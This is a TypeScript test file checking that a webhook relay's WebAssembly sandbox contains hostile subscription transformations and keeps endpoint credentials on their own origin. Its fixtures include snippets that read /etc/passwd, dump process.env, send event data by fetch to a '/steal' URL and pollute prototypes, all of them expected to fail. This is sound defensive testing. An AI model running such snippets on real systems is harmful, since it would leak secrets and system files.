/**
 * Issue 30 item 3 / Must-show 3: transformations in a WebAssembly sandbox. In one relay pass,
 * subscriptions whose transformation loops forever, allocates without end, probes for `process`,
 * `require`, `fetch` or host globals, pollutes prototypes, returns a huge body, or throws: each of
 * those deliveries is dead with the reason in its attempt and dead letter, within its limits,
 * while the well-behaved subscriptions' deliveries of the same pass are delivered, transformed
 * and signed over the transformed body. Also: null skips, compiled once per version, invalid
 * sources refused at creation.
 */
import { Webhook } from "standardwebhooks";
import { afterAll, afterEach, beforeAll, expect, it } from "vitest";
import { createRelay, createSubscription, enqueue, getDeadLetter, getDelivery, getSubscription, listAttempts, OutboundValidationError } from "../../shared/outbound/index.js";
import { deleteSubscription, updateSubscription } from "../../shared/outbound/subscriptionChanges.js";
import { createTransport, type Transport } from "../../shared/outbound/transport.js";
import { runTransformation, transformationCompilations } from "../../shared/outbound/transformations.js";
import { describeEachBackend } from "../support/databases.js";
import { resetOutbound, startReceiver, type Receiver } from "./support/receiver.js";

const HOSTILE: Record<string, { source: string; reason: RegExp }> = {
  loop: { source: "(e) => { while (true) {} }", reason: /timed out after 100 ms/ },
  memory: { source: "(e) => { const a = []; while (true) a.push({ n: a.length, s: 'x'.repeat(64) }); }", reason: /timed out after 100 ms|ran out of memory/ },
  process: { source: "(e) => ({ body: process.env })", reason: /ReferenceError: 'process' is not defined/ },
  require: { source: "(e) => { const fs = require('fs'); return { body: fs.readFileSync('/etc/passwd', 'utf8') }; }", reason: /ReferenceError: 'require' is not defined/ },
  fetch: { source: "(e) => { fetch('http://127.0.0.1:1/steal?' + JSON.stringify(e)); return { body: 'x' }; }", reason: /ReferenceError: 'fetch' is not defined/ },
  hostGlobals: { source: "(e) => ({ body: globalThis.Deno || globalThis.Bun || globalThis.module || globalThis.console.log('x') })", reason: /TypeError: cannot read property 'log' of undefined|not a function/ },
  pollution: { source: "(e) => { Object.prototype.isAdmin = true; return { body: 'x' }; }", reason: /TypeError: object is not extensible/ },
  huge: { source: "(e) => ({ body: 'x'.repeat(4 * 1024 * 1024) })", reason: /returned \d+ bytes, over the limit of 1048576/ },
  throws: { source: "(e) => { throw new Error('no such customer ' + e.data.customer); }", reason: /threw Error: no such customer c1/ },
  invalid: { source: "(e) => ({ body: 'x', status: 200 })", reason: /returned unknown field\(s\) status/ },
  throwsValue: { source: "(e) => { throw 'no customer'; }", reason: /(?<!threw )threw the value "no customer"/ },
};

describeEachBackend("transformations", (ctx) => {
  let receiver: Receiver;
  let transport: Transport;
  beforeAll(async () => {
    receiver = await startReceiver();
    transport = createTransport({ allowedDestinations: ["127.0.0.1"], timeoutMs: 5000 });
  });
  afterAll(async () => { await receiver.close(); await transport.close(); });
  afterEach(async () => { await resetOutbound(ctx.db); receiver.received.length = 0; });

  it("ends each hostile transformation's delivery with its reason, and delivers the others of the same pass", async () => {
    const subs: Record<string, string> = {};
    for (const [name, h] of Object.entries(HOSTILE)) {
      subs[name] = (await createSubscription(ctx.db, { url: `${receiver.url}/${name}`, eventTypes: ["order.*"], transformation: h.source })).id;
    }
    const good = await createSubscription(ctx.db, {
      url: `${receiver.url}/good`, eventTypes: ["order.*"],
      transformation: "(event) => ({ body: { text: `Order ${event.data.orderId} paid: ${event.data.amount} EUR` }, headers: { 'x-shape': 'slack' } })",
    });
    const plain = await createSubscription(ctx.db, { url: `${receiver.url}/plain`, eventTypes: ["order.*"] });
    const skipping = await createSubscription(ctx.db, { url: `${receiver.url}/skip`, eventTypes: ["order.*"], transformation: "(e) => e.data.amount > 100 ? { body: e } : null" });
    await enqueue(ctx.db, { id: "t1", type: "order.paid", data: { orderId: "o1", amount: 42, customer: "c1" } });

    const relay = createRelay({ db: ctx.db, transport, batchSize: 100 });
    const started = Date.now();
    expect(await relay.runOnce()).toBe(Object.keys(HOSTILE).length + 3);
    const passMs = Date.now() - started;

    for (const [name, h] of Object.entries(HOSTILE)) {
      const id = `t1:${subs[name]}`;
      const dead = await getDeadLetter(ctx.db, id);
      expect(dead.deadReason, name).toMatch(/^permanent failure: transformation_failed \(the subscription's transformation /);
      expect(dead.deadReason, name).toMatch(h.reason);
      const [attempt] = await listAttempts(ctx.db, id);
      expect(attempt!.errorClass, name).toBe("transformation_failed");
      expect(attempt!.responseExcerpt, name).toMatch(h.reason);
    }
    // None of them reached the network.
    expect(receiver.received.map((r) => r.webhookId).sort()).toEqual([`t1:${good.id}`, `t1:${plain.id}`].sort());
    const sent = receiver.received.find((r) => r.webhookId === `t1:${good.id}`)!;
    expect(JSON.parse(sent.body)).toEqual({ text: "Order o1 paid: 42 EUR" });
    expect(sent.headers["x-shape"]).toBe("slack");
    // The signature covers the transformed body.
    const secret = (await ctx.db.query<{ secrets: string[] }>("SELECT secrets FROM outbound_subscriptions WHERE id = $1", [good.id])).rows[0]!.secrets;
    const { openSecrets } = await import("../../shared/crypto/subscriptionSecrets.js");
    expect(new Webhook(openSecrets(good.id, secret)[0]!).verify(sent.body, sent.headers as Record<string, string>)).toEqual({ text: "Order o1 paid: 42 EUR" });
    expect((await getDelivery(ctx.db, `t1:${plain.id}`)).status).toBe("delivered");
    // null: not sent, and not retried (done, with the reason in its attempt).
    const skipped = await getDelivery(ctx.db, `t1:${skipping.id}`);
    expect(skipped.status).toBe("delivered");
    expect((await listAttempts(ctx.db, skipped.id))[0]!.errorClass).toBe("skipped_by_transformation");
    // Generous bound: ten sandboxes are created (WebAssembly instances) and two run to their 100 ms limit.
    expect(passMs).toBeLessThan(60_000);
  }, 120_000);

  it("a failed or skipped transformation leaves the subscription's health alone: no failure counted, and a skipped probe does not close the circuit", async () => {
    const policy = { degradeAfter: 1, disableAfter: 2, probeIntervalSeconds: 3600, openAfterSeconds: 0 };
    const relay = createRelay({ db: ctx.db, transport, batchSize: 100, healthPolicy: policy });
    // Failed transformations: dead, each with its reason, the endpoint (fine) never contacted nor marked.
    const throwing = await createSubscription(ctx.db, { url: `${receiver.url}/throwing`, eventTypes: ["order.*"], transformation: "(e) => { throw new Error('bad mapping') }" });
    for (const id of ["h1", "h2", "h3"]) await enqueue(ctx.db, { id, type: "order.paid", data: { n: 1 } });
    expect(await relay.runOnce()).toBe(3);
    expect((await getDeadLetter(ctx.db, `h1:${throwing.id}`)).deadReason).toMatch(/transformation_failed \(the subscription's transformation threw Error: bad mapping\)/);
    const afterFailures = await getSubscription(ctx.db, throwing.id);
    expect([afterFailures.status, afterFailures.health.consecutiveFailures]).toEqual(["active", 0]);
    await deleteSubscription(ctx.db, throwing.id);

    // A subscription whose endpoint does fail is disabled (circuit open); a probe its transformation skips leaves it so.
    const sub = await createSubscription(ctx.db, { url: `${receiver.url}/failing`, eventTypes: ["order.*"], transformation: "(e) => e.data.send ? { body: e.data } : null" });
    receiver.respond = () => ({ status: 400 });
    try {
      for (const id of ["f1", "f2"]) {
        await enqueue(ctx.db, { id, type: "order.paid", data: { send: true } });
        await relay.runOnce();
      }
    } finally { receiver.respond = () => ({ status: 200 }); }
    expect((await getSubscription(ctx.db, sub.id)).status).toBe("disabled");
    await enqueue(ctx.db, { id: "s1", type: "order.paid", data: { send: false } });
    await ctx.db.query("UPDATE outbound_subscriptions SET next_probe_at = now() WHERE id = $1", [sub.id]);
    const sentBefore = receiver.received.length;
    expect(await relay.runOnce()).toBe(1);
    const [probe] = await listAttempts(ctx.db, `s1:${sub.id}`);
    expect([probe!.probe, probe!.errorClass]).toEqual([true, "skipped_by_transformation"]);
    expect((await getDelivery(ctx.db, `s1:${sub.id}`)).status).toBe("delivered");
    expect(receiver.received.length).toBe(sentBefore);
    const stillOpen = await getSubscription(ctx.db, sub.id);
    expect([stillOpen.status, stillOpen.health.consecutiveFailures]).toEqual(["disabled", 2]);
  }, 60_000);

  it("never sends a subscription's endpoint credentials to another origin a transformation names: that delivery fails as permanent; the same origin gets them", async () => {
    const elsewhere = await startReceiver();
    try {
      const basic = "Basic " + Buffer.from("relay:pass-30").toString("base64");
      const sub = await createSubscription(ctx.db, {
        url: `${receiver.url}/own`, eventTypes: ["order.*"], auth: { kind: "basic", username: "relay", password: "pass-30" },
        transformation: `(e) => ({ body: e.data, url: e.data.away ? ${JSON.stringify(`${elsewhere.url}/steal`)} : ${JSON.stringify(`${receiver.url}/other-path?x=1`)} })`,
      });
      await enqueue(ctx.db, { id: "o1", type: "order.paid", data: { away: true } });
      await enqueue(ctx.db, { id: "o2", type: "order.paid", data: { away: false } });
      const relay = createRelay({ db: ctx.db, transport, batchSize: 100 });
      expect(await relay.runOnce()).toBe(2);
      expect(elsewhere.received).toEqual([]);
      const dead = await getDeadLetter(ctx.db, `o1:${sub.id}`);
      expect(dead.deadReason).toBe(`permanent failure: transformation_failed (the subscription's transformation returned a url of another origin (${new URL(elsewhere.url).origin}) than the subscription's (${new URL(receiver.url).origin}); the subscription has endpoint auth (basic), whose credentials are sent to its own origin only)`);
      expect((await listAttempts(ctx.db, `o1:${sub.id}`)).map((a) => [a.result, a.errorClass])).toEqual([["permanent", "transformation_failed"]]);
      expect((await getSubscription(ctx.db, sub.id)).health.consecutiveFailures).toBe(0);
      // The same origin, another path: sent with the credentials.
      expect(receiver.received.map((r) => [r.webhookId, r.headers.authorization])).toEqual([[`o2:${sub.id}`, basic]]);
      // Without auth there is nothing to leak: another origin is sent to.
      const plain = await createSubscription(ctx.db, { url: `${receiver.url}/plain`, eventTypes: ["other.*"], transformation: `(e) => ({ body: 'x', url: ${JSON.stringify(`${elsewhere.url}/fine`)} })` });
      await enqueue(ctx.db, { id: "o3", type: "other.thing", data: {} });
      expect(await relay.runOnce()).toBe(1);
      expect(elsewhere.received.map((r) => [r.webhookId, r.headers.authorization])).toEqual([[`o3:${plain.id}`, undefined]]);
    } finally {
      await elsewhere.close();
    }
  }, 60_000);

  it("refuses a transformation that is not a function's source, and edits and removes one", async () => {
    for (const source of ["42", "(e) => {", "while (true) {}"]) {
      const error = await createSubscription(ctx.db, { url: `${receiver.url}/x`, eventTypes: ["*"], transformation: source }).catch((e: unknown) => e);
      expect(error, source).toBeInstanceOf(OutboundValidationError);
      expect((error as OutboundValidationError).issues[0]!.path).toBe("transformation");
    }
    const sub = await createSubscription(ctx.db, { url: `${receiver.url}/x`, eventTypes: ["*"], transformation: "(e) => ({ body: 1 })" });
    expect(sub.transformation).toBe("(e) => ({ body: 1 })");
    expect((await updateSubscription(ctx.db, sub.id, { transformation: "(e) => ({ body: 2 })" })).transformation).toBe("(e) => ({ body: 2 })");
    expect((await updateSubscription(ctx.db, sub.id, { transformation: null })).transformation).toBeNull();
  }, 60_000);
});

describeEachBackend("POST /transformations/test", (ctx) => {
  it("runs a transformation on a catalogue example or a given event and answers the result or the reason", async () => {
    const { startTestPlatform } = await import("../operator/harness.js");
    const { createEventType } = await import("../../shared/outbound/catalogue.js");
    const t = await startTestPlatform(ctx.db, {}, { workers: false });
    try {
      await createEventType(ctx.db, { name: "order.tested", examples: [{ orderId: "o9", amount: 3 }] });
      const ok = await t.api("POST", "/transformations/test", { transformation: "(e) => ({ body: { text: e.type + ' ' + e.data.orderId }, headers: { 'x-a': 'b' } })", eventType: "order.tested" });
      expect(ok).toMatchObject({ result: { body: JSON.stringify({ text: "order.tested o9" }), headers: { "x-a": "b" } }, error: null, event: { type: "order.tested", data: { orderId: "o9", amount: 3 } } });
      const looping = await t.api("POST", "/transformations/test", { transformation: "(e) => { while (true) {} }", event: { type: "x", data: 1 } });
      expect(looping).toMatchObject({ result: null, error: "timed out after 100 ms (the time limit)" });
      const skipped = await t.api("POST", "/transformations/test", { transformation: "(e) => null", event: { type: "x", data: 1 } });
      expect(skipped).toMatchObject({ result: null, error: null });
    } finally {
      await t.stop();
      await ctx.db.query("TRUNCATE outbound_event_types");
    }
  }, 60_000);
});

it("compiles a transformation once per version and reuses it; a failure starts the next run afresh", async () => {
  const source = `(e) => ({ body: { n: e.data.n * 2, version: "once-${Date.now()}" } })`;
  const before = transformationCompilations();
  for (let n = 0; n < 200; n++) expect(await runTransformation(source, { data: { n } })).toMatchObject({ skip: false, body: expect.stringContaining(`"n":${n * 2}`) });
  expect(transformationCompilations()).toBe(before + 1);
  // State does not carry from one run to the next through the built-ins (they are frozen).
  const sneaky = "(e) => { try { Array.prototype.sneak = 1 } catch {} return { body: [].sneak === undefined ? 'clean' : 'polluted' } }";
  expect(await runTransformation(sneaky, {})).toEqual({ skip: false, body: "clean" });
  expect(await runTransformation(sneaky, {})).toEqual({ skip: false, body: "clean" });
}, 60_000);
